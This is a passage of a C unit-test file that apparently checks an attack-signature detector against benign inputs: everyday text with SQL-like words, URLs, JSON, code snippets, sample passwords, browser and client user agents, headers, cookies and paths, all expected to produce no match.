        "I'd like to select all items and drop the rest", "drop table tennis", "1=1 math",
        "Please select one option (or more) from the list", "Where are my orders from last week?",
        "What's the order by date?", "Sleep well; see you tomorrow",
        "Let's meet at 5; bring snacks & drinks",
        "Tom & Jerry | Season 1", "Rock 'n' roll", "It's 5 o'clock somewhere",
        "He said 'hello' -- then left",
        "She said \"or else\" and walked away", "\"Fast\" or \"cheap\": pick one",
        "Don't forget: it's 'or' not 'and'", "Use 'or' and 'and' carefully",
        "JavaScript: The Good Parts",
        "Learning JavaScript: a beginner's guide", "Is 5 > 3 and 2 < 4?", "x = y + 1", "and/or",
        "either/or",
        "I <3 NY", "<3 <3 <3", ":-) ;-) :-(", "C++ & C#", "TCP/IP", "N/A", "100% cotton",
        "50% off!!!",
        "AT&T", "Q&A", "R&D", "#hashtag @mention", "Ctrl+Alt+Delete", "cat food for my cat",
        "sleep apnea", "union station", "select committee", "or gate logic", "etc etc",
        "id card renewal",
        "ls 400 engine", "ping pong", "echo chamber", "the id of the order is 42", "Wait... what?!",
        "Price: $1,234.56 (incl. VAT)", "Terms & Conditions apply; see the FAQ", "¯\\_(ツ)_/¯",
        "My password is 'hunter2' lol", "select * from the menu, please",
        "I paid $5; it was worth it",
        "The file is in C:\\Users\\Me\\Documents\\report.docx",
        "Ship to: 221B Baker St, London NW1 6XE",
        "Meet me at the exec office; bring the CEO's deck", "Ask them: who am I?",
        "The script ran; nothing happened", "Great product!!! 5/5 would buy again :)",
        "Evaluate the expression (a + b) * c", "regular expression (regex) help",
        "Timeout after 30 s; retry", "Go to Settings > Privacy > Cookies",
        "1/2 cup sugar, 3/4 cup flour", "Chapter 3: ../ and ./ in paths", "page 2 of 10",
        /* addresses, numbers, dates */
        "o'brien@example.com", "d'angelo+news@mail.example.org", "user.name@sub.domain.co.uk",
        "+1 (555) 123-4567", "2024-01-15", "12:30", "$1,234.56", "3.14", "1e10", "-42", "0x1F",
        "192.168.1.10", "10.0.0.1/24", "2001:db8::1", "FR76 3000 6000 0112 3456 7890 189",
        /* URLs */
        "https://example.com/search?q=select+union&page=2",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "http://localhost:8080/api/v1/users?id=1",
        "ftp://ftp.example.org/pub/file.tar.gz", "https://en.wikipedia.org/wiki/Union_(set_theory)",
        "mailto:someone@example.com?subject=Hi%20there", "https://example.com/a/b/../c",
        "https://example.com/#/dashboard?tab=orders",
        /* JSON, markdown, code */
        "{\"name\": \"O'Brien\", \"tags\": [\"a\", \"b\"], \"count\": 3, \"active\": true}",
        "{\"filter\": {\"price\": {\"min\": 10, \"max\": 20}}, \"sort\": \"price_asc\"}",
        "[{\"id\":1,\"or\":2},{\"id\":2,\"and\":null}]",
        "# Title\n\n* item one\n* item two\n\n**bold** and _italic_ with `code` and "
        "[link](https://example.com)",
        "> quoted text\n\n1. first\n2. second\n\n---\n\n| id | name |\n|----|------|\n| 1 | Bob |",
        "Run `ls -la` and then `cat notes.txt`; the `id` column is the key.",
        "```\nmake && make test\n./build/app --port 8080\n```\nThen open the page.",
        "def add(a, b):\n    return a + b\n\nprint(add(1, 2))",
        "for (int i = 0; i < n; i++) { sum += a[i]; }",
        "const x = items.filter(i => i.active).map(i => i.id);",
        ".btn { color: red; margin: 0 auto; } /* primary */",
        "if (x == 'a' || x == 'b') return 1;",
        "if name == 'main' or debug: run()",
        "SELECT name FROM cities WHERE population > 1000000 ORDER BY name",
        "git commit -m 'fix: the union of two sets'",
        /* passwords people pick */
        "P@ssw0rd!", "correct horse battery staple", "Tr0ub4dor&3", "hunter2", "$ecret;Pa$$w0rd",
        "<3kitty<3", "p4ss'word\"2024", "admin123!", "qwerty#2024",
        /* a paragraph */
        "Hello! I ordered the blue one (size M) on 3/14 but got the red one instead; could you "
        "please send the right size? I'd rather not drop it at the post office again. Thanks, "
        "Mary O'Neill -- P.S. the union of our two orders was #4521 and #4522.",
    };
    cr_assert_eq(benign(values, COUNT(values), SIG_ARG), 0);
}

Test(benign, browser_and_api_client_agents_never_hit)
{
    static const char *const agents[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.6099.43 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/119.0.0.0 Safari/537.36 OPR/105.0.0.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
        "+https://openai.com/gptbot)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Twitterbot/1.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "curl/8.4.0", "Wget/1.21.4", "python-requests/2.31.0", "Go-http-client/1.1",
        "okhttp/4.12.0", "PostmanRuntime/7.36.0", "axios/1.6.2",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "libwww-perl/6.72",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
        "MyApp/3.2.1 (iPhone; iOS 17.1; Scale/3.00) CFNetwork/1410.0.3 Darwin/22.6.0",
        "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.1",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)",
        "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    };
    cr_assert_eq(benign(agents, COUNT(agents), SIG_AGENT), 0);
}

Test(benign, headers_cookies_and_paths_never_hit)
{
    static const char *const headers[] = {
        "https://www.google.com/", "https://example.com/products?category=tables&sort=price_asc",
        "https://example.com/search?q=o%27brien&page=2", "en-US,en;q=0.9,fr;q=0.8,de;q=0.7",
        "de-CH, de;q=0.9, en;q=0.8", "203.0.113.7, 10.0.0.1", "2001:db8::1", "https://example.com",
        "for=192.0.2.60;proto=http;by=203.0.113.43", "webmaster@example.org", "v2", "2023-10-16",
    };
    cr_assert_eq(benign(headers, COUNT(headers), SIG_HEADER), 0);
    static const char *const cookies[] = {
        "0123456789abcdef0123456789abcdef", "GA1.2.1234567890.1699999999",
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
         "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
        "%7B%22items%22%3A%5B1%2C2%5D%7D", "%7B%22ads%22%3Afalse%2C%22analytics%22%3Atrue%7D",
        "dark", "en-US", "Xy9dKq2-Lm_Zp8RtVw4BnQ", "1700000000|a1b2c3|/checkout",
        "cart=3&currency=EUR", "CP1xyzAP1xyzAAGABCENAfEgAAAAAAAAAAYgAAAAAAAA.YAAAAAAAAAAA",
    };
    cr_assert_eq(benign(cookies, COUNT(cookies), SIG_COOKIE), 0);
    static const char *const paths[] = {
        "/", "/index.html", "/blog/2024/01/15/my-first-post", "/api/v1/users/42/orders",
        "/static/js/app.3f9a2c.js", "/wiki/Union_(set_theory)", "/files/report%20final.pdf",
        "/products/select-a-size", "/users/o%27brien", "/.well-known/acme-challenge/xyz",
        "/favicon.ico", "/robots.txt", "/sitemap.xml", "/@alice/status/123", "/~alice/home.html",
        "/search/drop%20table%20tennis", "/tags/c%2B%2B", "/cat/etc", "/docs/etc/passwords-policy",
    };
    cr_assert_eq(benign(paths, COUNT(paths), SIG_PATH), 0);
    static const char *const names[] = {"q",       "page",       "sort",
                                        "utm_source", "filter[price][min]", "items[]",
                                        "user.email", "csrf_token", "g-recaptcha-response"};
    cr_assert_eq(benign(names, COUNT(names), SIG_NAME), 0);
}
